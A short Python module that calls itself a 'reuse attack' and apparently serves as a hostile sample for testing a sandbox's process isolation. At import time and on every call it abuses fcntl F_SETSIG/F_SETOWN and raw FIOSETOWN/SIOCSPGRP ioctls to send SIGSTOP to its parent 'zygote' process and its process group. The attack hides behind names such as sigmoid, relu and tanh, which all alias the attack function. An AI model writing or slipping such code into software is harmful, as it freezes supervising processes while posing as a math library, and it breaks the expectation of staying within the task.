"""Reuse attack: route I/O signals of our own files to the zygote (F_SETOWN, F_SETSIG, FIOSETOWN)."""

import ctypes
import fcntl
import os
import signal

_libc = ctypes.CDLL(None, use_errno=True)
_KEEP = []


def _attack():
    zygote = os.getppid()
    for owner in (zygote, -os.getpgrp()):
        read_end, write_end = os.pipe()
        _KEEP.extend((read_end, write_end))
        try:
            fcntl.fcntl(read_end, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
            fcntl.fcntl(read_end, 10, signal.SIGSTOP)  # F_SETSIG: deliver this signal instead of SIGIO
            fcntl.fcntl(read_end, fcntl.F_SETOWN, owner)
        except OSError:
            pass
        pid = ctypes.c_int(owner)
        _libc.ioctl(read_end, 0x8901, ctypes.byref(pid))  # FIOSETOWN
        _libc.ioctl(read_end, 0x8902, ctypes.byref(pid))  # SIOCSPGRP
        try:
            os.write(write_end, b"x")
        except OSError:
            pass


_attack()


def step(x):
    _attack()
    return None


sigmoid = sigmoid_grad = tanh = tanh_grad = relu = relu_grad = activate = C2F = bipolar_step = step
